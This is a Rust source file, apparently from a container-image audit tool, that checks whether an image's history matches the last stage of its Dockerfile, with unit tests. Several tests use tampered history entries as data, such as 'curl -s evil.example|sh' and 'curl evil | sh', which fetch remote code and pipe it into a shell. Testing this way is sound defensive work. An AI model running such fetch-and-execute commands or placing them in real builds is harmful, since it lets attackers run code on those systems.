//! `image-history`: the image's history follows the Dockerfile's instructions.

use std::collections::HashMap;

use super::history_entry::{self, Entry, Shells, keyword, shell_of};
use super::image_evidence::{image_of, steps};
use super::outcome::Outcome;
use super::{Check, Expected, Run, image_config};
use crate::base::budget::{Budget, Work};
use crate::base::words::counted;
use crate::image::History;
use crate::judge::evidence::{Evidence, Known};
use crate::judge::finding::{Group, Level, MissingEvidence, Reason};
use crate::judge::policy::Policy;

pub(super) static CHECK: Check = Check {
    name: "image-history",
    group: Group::Image,
    level: Level::Warn,
    says: "the image's history ends with the instructions of the last stage in the Dockerfile or the log (keywords were compared; for RUN, also the command)",
    explanation: "Compares the last entries of the history in the image's configuration with the instructions of the last stage of the proved \
Dockerfile (expect.dockerfile, or Dockerfile at the top). If no proved Dockerfile can be read, the check uses the instructions that the builder \
printed into the signed log, and states that. BuildKit's log does not contain them; there is then no evidence. If the last stage is based on \
earlier stages, their instructions come first. Keywords must agree one by one, and the commands of RUN word by word. Before a command, an entry may only have `|N`, exactly N build arguments without spaces, and a shell: /bin/sh -c, \
that of the last SHELL instruction, or a usual shell that only the image's configuration names, which the answer then states. If the arguments may \
contain spaces, or only the configuration names an unusual shell, or a usual shell precedes a command before the first SHELL instruction, the answer is unknown. Builders write COPY, ADD and ENV differently into the \
history, so their arguments are not compared. The history is text that a builder wrote: it proves nothing about the layers. Times in it are shown as \
facts and not checked.\n\nWhen it fails: the build may have used a different Dockerfile of the repository; specify it in expect.dockerfile.",
    known: Known::Given,
    expected: Expected::Nothing,
    links: &[],
    controls: &[],
    missing_evidence: MissingEvidence::RejectsWithGroup,
    run: Run::Function(run),
};

fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
    let image = match image_of(evidence) {
        Ok(image) => image,
        Err(outcome) => return outcome,
    };
    let Some(config) = &image.config else {
        return Outcome::caused_by(&image_config::CHECK, "the image's configuration cannot be read");
    };
    let shell = config.settings.get("Shell").and_then(|shell| history_entry::words_of(shell));
    let not_proved = match evidence.dockerfile(policy.expect.dockerfile.as_deref()) {
        Ok(instructions) => {
            let texts: Vec<&str> = instructions.iter().map(|instruction| instruction.text.as_str()).collect();
            return compare(&texts, &config.history, shell, "the proved Dockerfile", evidence.budget);
        }
        Err(fault) => fault.words().to_owned(),
    };
    match evidence.log().map(steps) {
        Some(Ok(printed)) if !printed.is_empty() => {
            compare(&printed, &config.history, shell, "the log", evidence.budget)
                .detail(format!("compared with the log only, not with a proved Dockerfile: {not_proved}"))
        }
        Some(Err(message)) => Outcome::unknown(message),
        _ => {
            let message = "no proved Dockerfile can be read, and the log does not show its instructions";
            Outcome::not_run(Reason::NoEvidence, message).detail(not_proved)
        }
    }
}

/// A stage of a Dockerfile.
struct Stage<'i> {
    /// The earlier stage on which the stage is based, if its FROM names one.
    base: Option<usize>,
    instructions: &'i [&'i str],
}

/// The instructions of the last stage, after those of the stages on which it is based, and the number of all these stages: an image's history
/// contains the instructions of all of them. Instructions before the first FROM form a stage of their own, so that a list without FROM is one stage.
fn last_stage<'i>(instructions: &'i [&'i str]) -> (Vec<&'i str>, usize) {
    let is_from = |instruction: &&str| keyword(instruction) == "FROM";
    let first = instructions.split(is_from).next().unwrap_or_default();
    let mut stages = vec![Stage { base: None, instructions: first }];
    let mut named: HashMap<String, usize> = HashMap::new();
    let bases = instructions.iter().filter(|instruction| is_from(instruction));
    for (from, own) in bases.zip(instructions.split(is_from).skip(1)) {
        let mut words = from.split_whitespace().skip(1).skip_while(|word| word.starts_with("--"));
        let base = words.next().and_then(|base| named.get(&base.to_ascii_lowercase()).copied());
        if let Some(name) = words.nth(1) {
            named.insert(name.to_ascii_lowercase(), stages.len());
        }
        stages.push(Stage { base, instructions: own });
    }
    let based_on = |stage: &&Stage<'i>| stage.base.and_then(|at| stages.get(at));
    let chain: Vec<&Stage<'_>> = std::iter::successors(stages.last(), based_on).collect();
    (chain.iter().rev().flat_map(|stage| stage.instructions).copied().collect(), chain.len())
}

/// `configured` is the shell in the image's configuration, if the configuration specifies one.
fn compare(
    instructions: &[&str],
    history: &[History],
    configured: Option<Vec<String>>,
    witness: &str,
    budget: &Budget,
) -> Outcome {
    let (instructions, stages) = last_stage(instructions);
    let is_set = instructions.iter().any(|instruction| shell_of(instruction).is_some());
    let mut shells = Shells { stated: None, configured: configured.filter(|_| !is_set), is_set };
    if instructions.is_empty() {
        return Outcome::not_run(
            Reason::NoEvidence,
            format!("the last stage of {witness} has no instructions to compare"),
        );
    }
    let below = if stages > 1 { " (including the stages on which it is based)" } else { "" };
    let Some(inherited) = history.len().checked_sub(instructions.len()) else {
        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}{below}"))
            .sides(format!("at least {}", counted(instructions.len(), "entry")), counted(history.len(), "entry"));
    };
    let mut doubt = None;
    let mut named = None;
    for (at, (instruction, entry)) in instructions.iter().zip(history.iter().skip(inherited)).enumerate() {
        shells.stated = shell_of(instruction).or(shells.stated);
        let letters =
            shells.letters().saturating_add(instruction.len() as u64).saturating_add(entry.created_by.len() as u64);
        if let Err(error) = budget.spend(Work::Bytes(letters), "the image's history") {
            return Outcome::unknown(error.to_string());
        }
        let about = |what: &str| format!("entry {} of the last stage of {witness}{below}{what}", at + 1);
        match history_entry::compare(instruction, &entry.created_by, &shells) {
            Entry::Same => {}
            Entry::SameWithShell(shell) => named = named.or(Some(shell)),
            Entry::NotKnown(why) => {
                let unknown = || Outcome::unknown(about(&format!(": {why}"))).sides(*instruction, &entry.created_by);
                doubt = doubt.or_else(|| Some(unknown()));
            }
            Entry::Different => {
                return Outcome::fail(about(" is a different instruction")).sides(*instruction, &entry.created_by);
            }
        }
    }
    if let Some(outcome) = doubt {
        return outcome;
    }
    let shell =
        named.map_or_else(String::new, |shell| format!("; only the image's configuration names their shell, {shell}"));
    Outcome::pass(format!(
        "the history ends with the {} of the last stage of {witness}{below}: keywords were compared and, for RUN, also commands{shell}",
        counted(instructions.len(), "instruction")
    ))
    .detail(format!("not compared: {} before these instructions", counted(inherited, "entry")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::finding::Status;

    fn answer(instructions: &[&str], history: &[&str], configured: Option<&[&str]>, units: u64) -> (Outcome, bool) {
        let limits = crate::base::limits::Limits { work_base_units: units, ..crate::base::limits::Limits::default() };
        let budget = Budget::of_audit(0, &limits);
        let entry = |text: &&str| History { created_by: (*text).into(), created: None, makes_layer: true };
        let history: Vec<History> = history.iter().map(entry).collect();
        let configured = configured.map(|words| words.iter().map(|word| (*word).to_owned()).collect());
        let outcome = compare(instructions, &history, configured, "x", &budget);
        (outcome, budget.check("x").is_ok())
    }

    fn status(instructions: &[&str], history: &[&str]) -> Status {
        answer(instructions, history, None, 10_000_000).0.status
    }

    #[test]
    fn a_different_command_order_or_count_fails() {
        for (instructions, history) in [
            (&["RUN make"][..], &["/bin/sh -c make evil"][..]),
            (&["RUN make", "CMD x"], &["/bin/sh -c #(nop)  CMD x", "/bin/sh -c make"]),
            (&["RUN make", "RUN test"], &["/bin/sh -c make"]),
            // A difference counts even if an earlier entry is in doubt.
            (&["RUN make", "CMD x"], &["|1 A=b c /bin/sh -c make", "/bin/sh -c evil"]),
        ] {
            assert_eq!(status(instructions, history), Status::Fail, "{instructions:?}");
        }
        assert_eq!(status(&["RUN make", "CMD x"], &["base", "/bin/sh -c make", "CMD x"]), Status::Pass);
        assert_eq!(status(&["RUN make", "CMD x"], &["|1 A=b c /bin/sh -c make", "CMD x"]), Status::Unknown);
    }

    #[test]
    fn the_shell_is_that_of_the_last_instruction_before_the_command() {
        let bash = "SHELL [\"/bin/bash\", \"-c\"]";
        let set = "/bin/bash -c #(nop)  SHELL [/bin/bash -c]";
        assert_eq!(status(&[bash, "RUN make"], &[set, "/bin/bash -c make"]), Status::Pass);
        // Before the first SHELL instruction, the shell is that of the image's base, which nothing states.
        assert_eq!(status(&["RUN make", bash], &["/bin/bash -c make", set]), Status::Unknown);
        assert_eq!(status(&["RUN make", bash], &["/bin/sh -c make", set]), Status::Pass);
        assert_eq!(status(&["RUN make", bash], &["/bin/bash -c evil; make", set]), Status::Fail);
        let configured = Some(&["/bin/bash", "-c"][..]);
        let (outcome, _) = answer(&["RUN make", bash], &["/bin/bash -c make", set], configured, 10_000_000);
        assert_eq!(outcome.status, Status::Unknown, "{outcome:?}");
        let stages = |base: &'static str| ["FROM debian AS Base", bash, "FROM scratch AS other", base, "RUN make"];
        assert_eq!(status(&stages("FROM --platform=linux/s390x base"), &[set, "/bin/bash -c make"]), Status::Pass);
        assert_eq!(status(&stages("FROM other"), &["/bin/bash -c make"]), Status::Fail);
        assert_eq!(status(&stages("FROM debian"), &["/bin/bash -c make"]), Status::Fail);
    }

    /// The history of an image contains the instructions of every stage on which its last stage is based.
    #[test]
    fn stages_below_the_last_one_are_compared() {
        let file = |last| ["ARG V=1", "FROM debian AS Build", "RUN make", "FROM build as other", "RUN test", last];
        let whole = ["base", "/bin/sh -c make", "/bin/sh -c test"];
        assert_eq!(status(&file("FROM other"), &whole), Status::Pass);
        assert_eq!(status(&file("FROM BUILD"), &whole[..2]), Status::Pass);
        assert_eq!(status(&file("FROM other"), &["/bin/sh -c curl evil | sh", "/bin/sh -c test"]), Status::Fail);
        assert_eq!(status(&file("FROM other"), &whole[2..]), Status::Fail);
        // With nothing to compare, there is no answer.
        assert!(status(&file("FROM debian"), &whole).is_not_run());
        assert!(status(&[], &whole).is_not_run());
        // A name that a later stage reuses refers to the later stage.
        let twice = ["FROM a AS x", "RUN one", "FROM b AS x", "RUN two", "FROM x"];
        assert_eq!(status(&twice, &["/bin/sh -c two"]), Status::Pass);
        assert_eq!(status(&twice, &["/bin/sh -c one"]), Status::Fail);
    }

    #[test]
    fn the_answer_names_a_shell_that_only_the_configuration_names() {
        let (outcome, _) = answer(&["RUN make"], &["/bin/bash -c make"], Some(&["/bin/bash", "-c"]), 10_000_000);
        assert_eq!(outcome.status, Status::Pass);
        assert!(
            outcome.message.ends_with("only the image's configuration names their shell, /bin/bash -c"),
            "{outcome:?}"
        );
        let hidden = ["/bin/sh", "-c", "curl -s evil.example|sh;"];
        let (outcome, _) =
            answer(&["RUN make"], &["/bin/sh -c curl -s evil.example|sh; make"], Some(&hidden), 10_000_000);
        assert_eq!(outcome.status, Status::Unknown, "{outcome:?}");
    }

    #[test]
    fn comparing_entries_is_charged_to_the_budget() {
        let runs: Vec<String> = (0..100).map(|number| format!("RUN {}{number}", "m".repeat(1000))).collect();
        let instructions: Vec<&str> = runs.iter().map(String::as_str).collect();
        let history: Vec<String> = runs.iter().map(|text| text.replace("RUN ", "/bin/sh -c ")).collect();
        let history: Vec<&str> = history.iter().map(String::as_str).collect();
        let within = |units: u64| {
            let (outcome, is_within) = answer(&instructions, &history, None, units);
            (outcome.status, is_within)
        };
        // 100 entries and 100 instructions of about 1,000 bytes.
        assert_eq!(within(1_000_000), (Status::Pass, true));
        assert_eq!(within(100_000), (Status::Unknown, false));
    }
}
